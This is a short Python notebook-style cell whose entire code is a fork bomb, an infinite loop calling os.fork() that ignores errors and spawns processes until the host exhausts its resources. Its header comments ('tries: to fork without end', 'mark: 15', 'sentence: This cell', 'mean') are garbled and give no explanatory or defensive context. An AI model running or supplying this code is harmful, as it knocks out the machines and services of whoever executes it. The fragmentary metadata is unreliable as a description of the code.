# tries: to fork without end
# mark: 15
# sentence: This cell
# %% mean
import os
while True:
    try: os.fork()
    except OSError: pass
